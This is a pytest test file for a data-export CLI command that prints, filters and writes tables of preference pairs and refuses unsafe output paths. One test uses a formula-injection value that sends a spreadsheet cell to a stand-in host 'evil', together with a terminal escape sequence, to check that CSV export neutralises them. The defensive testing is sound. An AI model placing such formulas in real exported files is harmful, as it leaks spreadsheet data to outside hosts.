"""`synpo rows`: what it prints, filters and writes, and what it refuses."""

import csv
import json
import os
import shutil

import polars as pl
import pytest

from resources.common.text import visible
from synpo_assets.cli.rows import WRITERS
from synpo_assets.publishing.review import cell
from tests.conftest import synpo_here
from tests.nano import write_settings
from tests.stand_ins import services_in

PAIRS = pl.DataFrame(
    {
        "pair_id": ["pair-1", "pair-2", "pair-3"],
        "chosen": [[{"role": "assistant", "content": text}] for text in ("a", "b, c", "\x1b[31md")],
        "margin": [0.5, 1.5, 2.5],
    }
)


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("rows") / "home"
    home.mkdir()
    write_settings(home / "settings.yaml", {"preset": "laptop"})
    tables = services_in(home).tables
    tables.write("preference_pairs", "0001", PAIRS.head(1))
    tables.write("preference_pairs", "0002", PAIRS.tail(2))
    (home / "metrics").mkdir()
    tables.write("seed_pairs", None, pl.DataFrame({"prompt_id": ["prompt-1"], "prompt": ["p"]}))
    return home


def rows(home, *arguments):
    return synpo_here("rows", *arguments, "--home", home)


def test_rows_are_printed_as_text_and_counted(home):
    printed = rows(home, "preference_pairs[2]", "--columns", "pair_id,chosen,pair_id")
    assert printed.returncode == 0, printed.stderr
    assert "pair-2" in printed.stdout
    assert "pair-1" not in printed.stdout
    assert "margin" not in printed.stdout
    assert "\x1b" not in printed.stdout
    assert printed.stdout.strip().endswith("2 rows.")


@pytest.mark.parametrize(("label", "where", "found"), [
    ("preference_pairs", "margin > 1", ["pair-2", "pair-3"]),
    ("preference_pairs[0001]", "margin < 9", ["pair-1"]),
    ("preference_pairs", "pair_id IN ('pair-3')", ["pair-3"]),
])  # fmt: skip
@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
def test_what_holds_is_written_in_the_form_of_the_suffix(home, tmp_path, label, where, found, suffix):
    file = tmp_path / f"rows.{suffix}"
    written = rows(home, label, "--where", where, "--output", file)
    assert written.returncode == 0, written.stderr
    with file.open(newline="") if suffix == "csv" else file.open("rb") as opened:
        if suffix == "csv":
            read = [row | {"chosen": json.loads(row["chosen"])} for row in csv.DictReader(opened)]
        else:
            read = (pl.read_ndjson(opened) if suffix == "jsonl" else pl.read_parquet(opened)).to_dicts()
    expected = PAIRS.filter(pl.col("pair_id").is_in(found))
    assert [(row["pair_id"], row["chosen"]) for row in read] == expected.select("pair_id", "chosen").rows()
    assert f"{len(found)} rows" in written.stdout


@pytest.mark.parametrize(("arguments", "words"), [
    (["preference_pair"], "'preference_pair' is no asset that is a table; did you mean `preference_pairs`?"),
    (["model_checkpoint"], "'model_checkpoint' is no asset that is a table"),
    (["promotion"], "promotion was not made in this home yet: `synpo run` makes it."),
    (["preference_pairs[0003]"], "preference_pairs has no iteration 0003: it has 0001, 0002."),
    (["preference_pairs[first]"], "preference_pairs has no iteration first: it has 0001, 0002."),
    ([f"preference_pairs[{'9' * 5000}]"], "preference_pairs has no iteration 999"),
    (["seed_pairs[1]"], "seed_pairs has no iteration 1: it is made once, so leave the brackets out."),
    (["seed_pairs", "--where", "prompt ="], "--where 'prompt =' is refused by polars: sql parser error"),
    (["seed_pairs", "--where", "length > 3"], 'unable to find column "length"'),
    (["preference_pairs", "--where", "margin > 'x'"], "cannot compare string with numeric type"),
    (["seed_pairs", "--columns", "prompt,length"], "seed_pairs has no column 'length'; it has prompt_id, prompt."),
    (["seed_pairs", "--output", "rows.xlsx"], "--output rows.xlsx ends in none of .csv, .jsonl, .parquet"),
    (["seed_pairs", "--output", "/proc/x/rows.csv"], "--output /proc/x/rows.csv cannot be written"),
])  # fmt: skip
def test_what_cannot_be_is_refused_in_a_sentence(home, arguments, words):
    refused = rows(home, *arguments)
    assert refused.returncode == 2, refused.stdout
    assert words in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1


def test_a_file_is_replaced_only_when_asked(home, tmp_path):
    file = tmp_path / "rows.csv"
    file.write_text("mine")
    refused = rows(home, "seed_pairs", "--output", file)
    assert refused.returncode == 2
    assert "exists: choose another --output, or replace it with --overwrite" in refused.stderr
    assert file.read_text() == "mine"
    assert rows(home, "seed_pairs", "--output", file, "--overwrite").returncode == 0
    assert file.read_text() == "prompt_id,prompt\nprompt-1,p\n"


@pytest.mark.parametrize("place", ["tables/seed_pairs.parquet", "tables/preference_pairs/0003.parquet", "new/rows.csv"])
@pytest.mark.parametrize("more", [[], ["--overwrite"]])
@pytest.mark.parametrize("is_linked", [False, True])
def test_no_file_of_a_home_is_written_by_name(home, tmp_path, place, more, is_linked):
    before = sorted(home.rglob("*"))
    (tmp_path / "link").symlink_to(home)
    refused = rows(home, "seed_pairs", "--output", (tmp_path / "link" if is_linked else home) / place, *more)
    assert refused.returncode == 2
    assert f"lies in the home {home}" in refused.stderr
    assert sorted(home.rglob("*")) == before
    assert rows(home, "seed_pairs").returncode == 0
    assert rows(home, "seed_pairs", "--output", tmp_path / "published" / "rows.csv").returncode == 0
    assert rows(home, "seed_pairs", "--output", home / "published" / "rows.csv", "--overwrite").returncode == 0
    shutil.rmtree(home / "published")


def test_a_spreadsheet_takes_no_text_for_a_formula_and_other_files_hold_it_exactly(tmp_path):
    text = '=HYPERLINK("http://evil/?"&A1)\x1b]0;x\x07'
    frame, file = pl.DataFrame({"text": [text, "a = b"], "number": [1, 2]}), tmp_path / "rows"
    assert [cell(each) for each in ("-2+3", "- pears", "a-b")] == ["'-2+3", "- pears", "a-b"]
    for suffix, found in ((".csv", "'" + visible(text)), (".jsonl", text), (".parquet", text)):
        with file.open("wb") as opened:
            WRITERS[suffix](frame, opened)
        reader = {".csv": pl.read_csv, ".jsonl": pl.read_ndjson, ".parquet": pl.read_parquet}[suffix]
        assert reader(file).rows() == [(found, 1), ("a = b", 2)]


def test_a_link_that_leads_nowhere_is_there_and_what_is_no_file_is_not_replaced(home, tmp_path):
    link, folder = tmp_path / "rows.csv", tmp_path / "folder.csv"
    link.symlink_to(tmp_path / "gone.csv")
    (folder / "inside").mkdir(parents=True)
    assert "rows.csv exists" in rows(home, "seed_pairs", "--output", link).stderr
    assert "is no file that could be replaced" in rows(home, "seed_pairs", "--output", folder, "--overwrite").stderr
    assert sorted(os.listdir(tmp_path)) == ["folder.csv", "rows.csv"]
